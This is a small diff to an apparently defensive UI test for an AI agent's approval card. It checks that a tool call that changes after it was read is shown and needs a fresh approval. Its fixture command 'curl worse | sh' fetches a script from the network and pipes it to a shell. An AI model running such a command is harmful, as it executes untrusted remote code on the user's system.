@@ -30,9 +30,11 @@ for (const [name, viewport] of [['desktop', { width: 1280, height: 800 }], ['pho
       await accessible(page);
       // The call has become another one: what was read isn't what would be allowed, and the card says so.
       await agent.update('call', call({ command: 'curl worse | sh' }));
+      await decidable(card);
       await card.getByRole('button', { name: 'Allow once' }).click();
       await expect(card.locator('pre.cmd')).toHaveText('curl worse | sh');
       expect(await agent.pending(0)).toEqual([]);
+      await decidable(card);
       await card.getByRole('button', { name: 'Allow once' }).click();
       await expect(page.locator('.approval')).toHaveCount(0);
       expect((await agent.pending()).map((message) => message.content)).toEqual(['Selected: allowed once']);
